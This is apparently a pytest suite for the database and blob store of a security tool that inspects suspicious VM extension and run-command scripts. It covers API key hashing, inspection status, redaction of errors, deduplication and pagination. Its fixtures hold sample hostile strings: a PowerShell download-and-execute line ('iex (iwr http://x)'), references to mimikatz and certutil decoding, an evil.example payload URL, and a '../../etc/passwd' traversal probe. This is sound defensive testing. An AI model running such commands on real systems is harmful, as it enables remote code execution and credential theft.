"""The Store contract, run on SQLite and PostgreSQL alike (see conftest.py)."""

from __future__ import annotations

import asyncio
import hashlib
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa

from inspector.model import VerdictClass
from inspector.store import InspectionFilter, Store, StoreError, UnknownInspection
from inspector.store.blobs import BlobError
from inspector.store.database import head_revision
from inspector.store.schema import api_keys, payloads
from inspector.store.testing import blobs_of, make_verdict


async def _done(store: Store, inspection_id: str, contents: list[bytes], **kw: object) -> None:
    await store.create_inspection(inspection_id, "extension", {"type": "CustomScript"}, None, None, kw.pop("name", None))  # type: ignore[arg-type]
    await store.save_verdict(inspection_id, make_verdict(inspection_id, contents, **kw), blobs_of(contents))  # type: ignore[arg-type]


# ---------------------------------------------------------------- lifecycle


async def test_open_migrates_to_head_and_answers_ping(store: Store) -> None:
    from inspector.store.database import current_revision

    assert await store.ping() is True
    async with store.engine.connect() as conn:
        assert await current_revision(conn) == head_revision()


async def test_opening_an_existing_database_again_is_harmless(store: Store) -> None:
    await store.create_key("admin")
    again = await Store.open(store.settings)
    try:
        assert await again.count_keys() == 1
    finally:
        await again.close()


async def test_ping_is_false_when_the_database_is_gone(store: Store) -> None:
    from sqlalchemy.ext.asyncio import create_async_engine

    gone = Store(create_async_engine("postgresql+asyncpg://nobody@127.0.0.1:1/none"), store.blobs, store.settings)
    try:
        assert await gone.ping() is False
    finally:
        await gone.close()


# ---------------------------------------------------------------- API keys


async def test_a_new_key_authenticates_and_only_its_hash_is_stored(store: Store) -> None:
    info, secret = await store.create_key("analyst", "console")
    assert info.role == "analyst" and info.name == "console" and info.revoked_at is None
    assert secret.startswith(f"pi_{info.id}_") and len(secret) > 40
    found = await store.authenticate(secret)
    assert found is not None and found.id == info.id and found.role == "analyst"
    assert found.last_used_at is not None
    async with store.engine.connect() as conn:
        stored = (await conn.execute(sa.select(api_keys.c.secret_hash))).scalar_one()
    assert secret not in stored and stored == hashlib.sha256(secret.encode()).hexdigest()


async def test_unknown_malformed_and_tampered_secrets_are_refused(store: Store) -> None:
    info, secret = await store.create_key("detector")
    assert await store.authenticate(secret[:-1] + ("A" if secret[-1] != "A" else "B")) is None
    assert await store.authenticate("pi_000000000000_" + "x" * 43) is None
    assert await store.authenticate("not-a-key") is None
    assert await store.authenticate("") is None
    assert await store.authenticate("pi_" + "x" * 500) is None


async def test_revoked_keys_stop_working_and_count_drops(store: Store) -> None:
    admin, _ = await store.create_key("admin")
    info, secret = await store.create_key("detector")
    assert await store.count_keys() == 2
    assert await store.revoke_key(info.id) is True
    assert await store.revoke_key(info.id) is False
    assert await store.revoke_key("nope") is False
    assert await store.authenticate(secret) is None
    assert await store.count_keys() == 1
    listed = {k.id: k for k in await store.list_keys()}
    assert listed[info.id].revoked_at is not None and listed[admin.id].revoked_at is None


async def test_unknown_roles_are_rejected(store: Store) -> None:
    with pytest.raises(StoreError, match="unknown role"):
        await store.create_key("root")  # type: ignore[arg-type]


# ---------------------------------------------------------------- inspections


async def test_an_inspection_goes_queued_running_done_and_keeps_its_verdict(store: Store) -> None:
    await store.create_inspection("i1", "extension", {"settings": {"commandToExecute": "x"}}, {"vm": "a"}, "k1", "in.json")
    stored = await store.get_inspection("i1")
    assert stored is not None and stored.status == "queued" and stored.verdict is None
    assert stored.key_id == "k1" and stored.input_name == "in.json"
    await store.mark_running("i1")
    assert (await store.get_inspection("i1")).status == "running"  # type: ignore[union-attr]
    contents = [b"iex (iwr http://x)", b"decoded child"]
    verdict = make_verdict("i1", contents, verdict=VerdictClass.MALICIOUS, score=1200, alerts=["VM_X"])
    await store.save_verdict("i1", verdict, blobs_of(contents))
    stored = await store.get_inspection("i1")
    assert stored is not None and stored.status == "done" and stored.verdict == verdict
    assert stored.updated_at >= stored.created_at
    assert await store.get_inspection("missing") is None


async def test_a_failed_inspection_keeps_a_redacted_error(store: Store) -> None:
    await store.create_inspection("f1", "script", {}, None, None)
    await store.mark_failed("f1", "deadline", "timed out fetching https://a/b?sv=1&sig=SECRETSIG123 password=hunter2")
    stored = await store.get_inspection("f1")
    assert stored is not None and stored.status == "failed" and stored.error_kind == "deadline"
    assert "SECRETSIG123" not in (stored.error or "") and "hunter2" not in (stored.error or "")


async def test_status_changes_and_verdicts_for_unknown_inspections_raise(store: Store) -> None:
    with pytest.raises(UnknownInspection):
        await store.mark_running("ghost")
    with pytest.raises(UnknownInspection):
        await store.save_verdict("ghost", make_verdict("ghost", [b"a"]), {})


async def test_a_blob_that_does_not_match_its_key_is_refused(store: Store) -> None:
    await store.create_inspection("b1", "script", {}, None, None)
    wrong = {hashlib.sha256(b"one").hexdigest(): b"two"}
    with pytest.raises(BlobError):
        await store.save_verdict("b1", make_verdict("b1", [b"one"]), wrong)


async def test_saving_a_verdict_twice_replaces_the_tree_and_keeps_history(store: Store) -> None:
    await _done(store, "r1", [b"a", b"b"])
    await store.save_verdict("r1", make_verdict("r1", [b"a", b"b"], score=50), blobs_of([b"a", b"b"]))
    stored = await store.get_inspection("r1")
    assert stored is not None and stored.verdict is not None and stored.verdict.score == 50
    assert (await store.get_payload(hashlib.sha256(b"a").hexdigest())).inspections == ["r1"]  # type: ignore[union-attr]


# ---------------------------------------------------------------- payloads and blobs


async def test_payloads_are_deduplicated_across_inspections(store: Store) -> None:
    shared = b"Invoke-WebRequest http://example.invalid/a.ps1"
    await _done(store, "p1", [shared, b"only in p1"], ruleset="v1")
    await _done(store, "p2", [b"root of p2", shared], ruleset="v2", verdict=VerdictClass.SUSPICIOUS, score=400)
    sha = hashlib.sha256(shared).hexdigest()
    info = await store.get_payload(sha)
    assert info is not None and info.size == len(shared) and info.blob_available and not info.expired
    assert info.inspections == ["p2", "p1"]
    assert {(v.ruleset_version, v.inspection_id, v.verdict) for v in info.verdicts} == {
        ("v2", "p2", VerdictClass.SUSPICIOUS),
        ("v1", "p1", VerdictClass.CLEAN),
    }
    assert info.last_seen >= info.first_seen
    async with store.engine.connect() as conn:
        assert await conn.scalar(sa.select(sa.func.count()).select_from(payloads)) == 3
    assert await store.get_blob(sha) == shared
    assert await store.get_payload("0" * 64) is None


async def test_blobs_are_sharded_by_hash_prefix(store: Store) -> None:
    await _done(store, "s1", [b"sharded"])
    sha = hashlib.sha256(b"sharded").hexdigest()
    assert (store.blobs.root / sha[:2] / sha[2:4] / sha).read_bytes() == b"sharded"


async def test_an_artifact_without_bytes_is_recorded_as_unavailable(store: Store) -> None:
    await store.create_inspection("nb", "url", {}, None, None)
    await store.save_verdict("nb", make_verdict("nb", [b"not stored"]), {})
    info = await store.get_payload(hashlib.sha256(b"not stored").hexdigest())
    assert info is not None and not info.blob_available and not info.expired
    assert await store.get_blob(info.sha256) is None


async def test_get_blob_rejects_keys_that_are_not_hashes(store: Store) -> None:
    with pytest.raises(BlobError):
        await store.get_blob("../../etc/passwd")


# ---------------------------------------------------------------- listing


@pytest.fixture
async def listed(store: Store) -> Store:
    await _done(store, "a-clean", [b"echo hi"], name="hello.sh")
    await _done(store, "b-mal", [b"mimikatz", b"child"], verdict=VerdictClass.MALICIOUS, score=2000,
                alerts=["VM_CustomScriptExtensionSuspiciousCmd"], name="evil.ps1",
                urls=["https://evil.example/payload.ps1", None])
    await _done(store, "c-sus", [b"certutil -decode"], verdict=VerdictClass.SUSPICIOUS, score=400,
                alerts=["VM_RunCommandSuspiciousScript"])
    await store.create_inspection("d-queued", "run_command", {}, None, None)
    return store


async def test_lists_are_newest_first(listed: Store) -> None:
    assert [s.id for s in await listed.list_inspections(InspectionFilter())] == ["d-queued", "c-sus", "b-mal", "a-clean"]


@pytest.mark.parametrize(
    ("flt", "expected"),
    [
        (InspectionFilter(verdict=VerdictClass.MALICIOUS), ["b-mal"]),
        (InspectionFilter(verdict=VerdictClass.CLEAN), ["a-clean"]),
        (InspectionFilter(kind="run_command"), ["d-queued"]),
        (InspectionFilter(status="queued"), ["d-queued"]),
        (InspectionFilter(alert_type="VM_RunCommandSuspiciousScript"), ["c-sus"]),
        (InspectionFilter(sha256=hashlib.sha256(b"child").hexdigest()), ["b-mal"]),
        (InspectionFilter(url="EVIL.example/"), ["b-mal"]),
        (InspectionFilter(url="%"), []),
        (InspectionFilter(file_name=".PS1"), ["b-mal"]),
        (InspectionFilter(file_name="_"), []),
        (InspectionFilter(verdict=VerdictClass.MALICIOUS, kind="run_command"), []),
    ],
)
async def test_filters(listed: Store, flt: InspectionFilter, expected: list[str]) -> None:
    assert [s.id for s in await listed.list_inspections(flt)] == expected


async def test_time_filters(listed: Store) -> None:
    now = datetime.now(UTC)
    assert len(await listed.list_inspections(InspectionFilter(since=now - timedelta(minutes=5)))) == 4
    assert await listed.list_inspections(InspectionFilter(since=now + timedelta(minutes=5))) == []
    assert await listed.list_inspections(InspectionFilter(until=now - timedelta(minutes=5))) == []


async def test_summaries_carry_verdict_and_alert_types(listed: Store) -> None:
    (mal,) = await listed.list_inspections(InspectionFilter(verdict=VerdictClass.MALICIOUS))
    assert mal.score == 2000 and mal.alert_types == ["VM_CustomScriptExtensionSuspiciousCmd"]
    assert mal.ruleset_version == "rules-v1" and mal.input_name == "evil.ps1"


async def test_keyset_pagination_walks_every_row_once(listed: Store) -> None:
    seen: list[str] = []
    before = None
    while page := await listed.list_inspections(InspectionFilter(), limit=3, before=before):
        seen += [s.id for s in page]
        before = page[-1].id
    assert seen == ["d-queued", "c-sus", "b-mal", "a-clean"]
    with pytest.raises(StoreError, match="cursor"):
        await listed.list_inspections(InspectionFilter(), before="no-such-id")


async def test_pagination_is_stable_when_timestamps_tie(store: Store) -> None:
    ids = [f"tie-{n}" for n in range(5)]
    for i in ids:
        await store.create_inspection(i, "script", {}, None, None)
    async with store.engine.begin() as conn:
        from inspector.store.schema import inspections

        await conn.execute(inspections.update().values(created_at=datetime(2026, 1, 1, tzinfo=UTC)))
    first = await store.list_inspections(InspectionFilter(), limit=2)
    rest = await store.list_inspections(InspectionFilter(), limit=10, before=first[-1].id)
    assert [s.id for s in first + rest] == sorted(ids, reverse=True)


# ---------------------------------------------------------------- concurrency


async def test_concurrent_writers_do_not_lose_rows(store: Store) -> None:
    async def one(n: int) -> None:
        await _done(store, f"c{n}", [b"shared root", f"child {n}".encode()])

    await asyncio.gather(*(one(n) for n in range(20)))
    assert len(await store.list_inspections(InspectionFilter(), limit=100)) == 20
    info = await store.get_payload(hashlib.sha256(b"shared root").hexdigest())
    assert info is not None and len(info.inspections) == 20
